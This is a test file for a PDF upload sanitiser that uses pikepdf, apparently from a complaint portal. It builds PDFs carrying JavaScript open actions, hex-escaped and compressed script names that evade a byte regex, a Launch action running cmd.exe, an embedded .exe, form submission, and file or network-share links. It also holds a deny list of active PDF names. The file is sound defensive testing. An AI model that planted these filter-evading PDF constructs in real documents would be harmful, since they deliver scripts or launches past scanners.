"""PDF uploads are read with a real parser: active content is removed wherever and however it is written,
locked and damaged files are refused, and the parser runs in a child that cannot hang or kill a worker.

check_one stores nothing: what it returns is what a caller stores (complaints' tests check that a refused
file leaves nothing behind)."""

from __future__ import annotations

import io
import re
import sys

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String

from tanggap.core import pdf_check as pdf_check_module
from tanggap.core.errors import DomainError
from tanggap.core.uploads import CheckedFile, check_one

LIMIT = 5 * 1024 * 1024

# The check that was replaced: it read the raw bytes, so escaped names and compressed objects got past.
OLD_REGEX = re.compile(rb"/(JavaScript|JS|Launch|EmbeddedFile|RichMedia)\b")
# Names that, anywhere in a stored PDF (as a key or a value), would mean active content survived.
ACTIVE_NAMES = {
    "/JS",
    "/JavaScript",
    "/Launch",
    "/EmbeddedFile",
    "/EmbeddedFiles",
    "/EF",
    "/RichMedia",
    "/XFA",
    "/AA",
    "/SubmitForm",
    "/ImportData",
    "/GoToR",
    "/GoToE",
    "/FileAttachment",
}
PAGE_TEXT = b"BT /F1 12 Tf 20 100 Td (Surat keluhan warga) Tj ET"


def pdf_bytes(extra: bytes = b"") -> bytes:
    """A minimal one-page PDF, written by hand (extra objects go before the trailer)."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
        + extra
        + b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def _letter() -> pikepdf.Pdf:
    """A one-page letter with some text on it."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.pages[0].obj.Contents = pdf.make_stream(PAGE_TEXT)
    return pdf


def _save(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def _names_in(data: bytes) -> set[str]:
    """Every name used as a key or a value anywhere in the document (an independent, blunt walk)."""
    found: set[str] = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        stack: list = [pdf.trailer, *pdf.objects]
        seen: set[tuple[int, int]] = set()
        while stack:
            obj = stack.pop()
            if isinstance(obj, pikepdf.Object) and obj.is_indirect:
                if obj.objgen in seen:
                    continue
                seen.add(obj.objgen)
            if isinstance(obj, pikepdf.Name):
                found.add(str(obj))
            elif isinstance(obj, pikepdf.Array):
                stack.extend(obj)
            elif isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
                for key, value in obj.items():
                    found.add(key)
                    stack.append(value)
    return found


def _active(data: bytes) -> set[str]:
    return _names_in(data) & ACTIVE_NAMES


def _add(name: str, data: bytes, **options) -> CheckedFile:
    uploaded = SimpleUploadedFile(name, data, content_type="application/pdf")
    return check_one(uploaded, max_bytes=LIMIT, **options)


def _stored(checked: CheckedFile) -> bytes:
    return checked.data


def _javascript_open_action(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://contoh.invalid/')"))
    )
    return pdf


def _open_action_js() -> bytes:
    return _save(_javascript_open_action(_letter()))


def _escaped_names() -> bytes:
    # Written by hand: `#4A` is "J", so a viewer reads /S /JavaScript and /JS; the bytes spell neither.
    return pdf_bytes(b"4 0 obj<</S/#4AavaScript/#4AS(app.alert(1))>>endobj\n").replace(
        b"/Type/Catalog/Pages 2 0 R", b"/Type/Catalog/Pages 2 0 R/OpenAction 4 0 R"
    )


def _in_object_stream() -> bytes:
    # Every dictionary (the catalogue and the action too) compressed inside an object stream.
    return _save(
        _javascript_open_action(_letter()), object_stream_mode=pikepdf.ObjectStreamMode.generate
    )


def _launch() -> bytes:
    pdf = _letter()
    pdf.Root.OpenAction = Dictionary(
        S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))
    )
    return _save(pdf)


def _embedded_file() -> bytes:
    pdf = _letter()
    pdf.attachments["tagihan.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 program")
    return _save(pdf)


def _page_additional_action() -> bytes:
    pdf = _letter()
    pdf.pages[0].obj.AA = Dictionary(
        O=Dictionary(S=Name.JavaScript, JS=String("this.submitForm('http://contoh.invalid/')"))
    )
    return _save(pdf)


def _link_submitting_a_form_with_a_next_launch() -> bytes:
    pdf = _letter()
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))
    goto.Next = Array([Dictionary(S=Name.Launch, F=String("x.exe"))])
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 50, 50], A=goto)
    submit = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[50, 0, 90, 50])
    submit.A = Dictionary(S=Name.SubmitForm, F=String("http://contoh.invalid/"))
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([link, submit]))
    return _save(pdf)


def _xfa_form() -> bytes:
    pdf = _letter()
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    return _save(pdf)


def test_a_plain_pdf_is_stored_as_the_same_document():
    original = _save(_letter())
    checked = _add("surat.pdf", original)
    stored = _stored(checked)
    assert checked.content_type == "application/pdf" and checked.extension == "pdf"
    assert checked.original_name == "surat.pdf"
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        assert len(pdf.pages) == 1
        assert pdf.pages[0].obj.Contents.read_bytes() == PAGE_TEXT
    assert _active(stored) == set()


@pytest.mark.parametrize(
    ("build", "expected"),
    [
        (_open_action_js, {"/JavaScript", "/JS"}),
        (_escaped_names, {"/JavaScript", "/JS"}),
        (_in_object_stream, {"/JavaScript", "/JS"}),
        (_launch, {"/Launch"}),
        (_embedded_file, {"/EmbeddedFiles", "/EmbeddedFile", "/EF"}),
        (_page_additional_action, {"/AA", "/JavaScript", "/JS"}),
        (_link_submitting_a_form_with_a_next_launch, {"/SubmitForm", "/Launch"}),
        (_xfa_form, {"/XFA"}),
    ],
    ids=lambda v: getattr(v, "__name__", ""),
)
def test_active_content_is_removed_and_the_cleaned_pdf_is_stored(build, expected):
    original = build()
    assert _active(original) >= expected  # the test file really carries it
    stored = _stored(_add("surat.pdf", original))
    assert _active(stored) == set()
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        assert len(pdf.pages) == 1
        assert "/OpenAction" not in pdf.Root


@pytest.mark.parametrize("build", [_escaped_names, _in_object_stream])
def test_the_old_byte_pattern_saw_nothing_in_escaped_or_compressed_javascript(build):
    assert OLD_REGEX.search(build()) is None


def test_a_harmless_open_action_and_links_are_kept():
    pdf = _letter()
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 50, 50])
    link.A = Dictionary(S=Name.URI, URI=String("https://lapor.go.id/"))
    pdf.pages[0].obj.Annots = Array([link])
    stored = _stored(_add("surat.pdf", _save(pdf)))
    with pikepdf.open(io.BytesIO(stored)) as cleaned:
        assert cleaned.Root.OpenAction[1] == Name.Fit
        assert str(cleaned.pages[0].obj.Annots[0].A.URI) == "https://lapor.go.id/"


def test_links_to_local_files_and_network_shares_are_removed():
    pdf = _letter()
    links = []
    for target in (
        "file:///C:/Windows/System32/calc.exe",
        "\\\\10.0.0.9\\berkas",
        "https://lapor.go.id/",
    ):
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 50, 50])
        link.A = Dictionary(S=Name.URI, URI=String(target))
        links.append(link)
    pdf.pages[0].obj.Annots = Array(links)
    stored = _stored(_add("surat.pdf", _save(pdf)))
    with pikepdf.open(io.BytesIO(stored)) as cleaned:
        kept = [str(a.A.URI) for a in cleaned.pages[0].obj.Annots if "/A" in a]
    assert kept == ["https://lapor.go.id/"]


def test_odd_but_harmless_structures_do_not_stop_the_check():
    pdf = _letter()
    chain = pdf.make_indirect(Array())
    chain.append(chain)  # an action chain that contains itself
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=chain)
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 50, 50], A=goto)
    pdf.pages[0].obj.Annots = Array([None, link, 7])
    stored = _stored(_add("surat.pdf", _save(pdf)))
    with pikepdf.open(io.BytesIO(stored)) as cleaned:
        assert len(cleaned.pages[0].obj.Annots) == 3


def test_a_script_object_nothing_points_to_is_not_stored():
    data = pdf_bytes(b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n")
    stored = _stored(_add("aktif.pdf", data))
    assert _active(stored) == set() and b"app.alert" not in stored


def test_a_pdf_locked_only_against_editing_is_stored_unlocked():
    locked = _save(_letter(), encryption=pikepdf.Encryption(owner="pemilik", user=""))
    stored = _stored(_add("terkunci.pdf", locked))
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        assert not pdf.is_encrypted and pdf.pages[0].obj.Contents.read_bytes() == PAGE_TEXT


def _cut_in_half() -> bytes:
    data = _save(_letter())
    return data[: len(data) // 2]


def _garbage() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"


def _without_pages() -> bytes:
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def _password() -> bytes:
    return _save(_letter(), encryption=pikepdf.Encryption(owner="pemilik", user="rahasia"))


@pytest.mark.parametrize(
    ("build", "message"),
    [
        (_cut_in_half, "rusak atau tidak lengkap"),
        (_garbage, "rusak atau tidak lengkap"),
        (_without_pages, "rusak atau tidak lengkap"),
        (_password, "kata sandi"),
    ],
    ids=lambda v: getattr(v, "__name__", ""),
)
def test_damaged_and_password_locked_pdfs_are_refused(build, message):
    with pytest.raises(DomainError) as refusal:
        _add("berkas.pdf", build())
    assert message in str(refusal.value) and "berkas.pdf" in str(refusal.value)
    assert refusal.value.field == "files"


@pytest.mark.parametrize(
    ("child", "message"),
    [
        ("import time; time.sleep(60)", "terlalu rumit"),  # a parser that never returns
        ("import os, signal; os.kill(os.getpid(), signal.SIGXCPU)", "terlalu rumit"),  # CPU limit
        ("import os; os.abort()", "rusak atau tidak lengkap"),  # a parser that crashes
        ("print('bukan jawaban')", "rusak atau tidak lengkap"),  # an answer that is not one
        (  # an answer, but the child failed on the way out
            'import sys; sys.stdout.write(\'{"status": "ok"}\\n%PDF-\'); sys.exit(3)',
            "rusak atau tidak lengkap",
        ),
    ],
    ids=["hangs", "cpu-limit", "crashes", "garbled", "exit-status"],
)
def test_a_parser_that_hangs_or_crashes_only_refuses_the_file(monkeypatch, child, message):
    monkeypatch.setattr(pdf_check_module, "TIMEOUT_SECONDS", 1)
    monkeypatch.setattr(pdf_check_module, "_command", lambda: [sys.executable, "-c", child])
    with pytest.raises(DomainError) as refusal:
        _add("surat.pdf", _save(_letter()))
    assert message in str(refusal.value)


def test_a_parser_that_cannot_start_asks_to_try_again(monkeypatch):
    monkeypatch.setattr(pdf_check_module, "_command", lambda: ["/nonexistent/python"])
    with pytest.raises(DomainError) as refusal:
        _add("surat.pdf", _save(_letter()), field="evidence_file")
    assert "coba kirim lagi nanti" in str(refusal.value)
    assert refusal.value.field == "evidence_file"  # the caller's field, also for the PDF's refusals
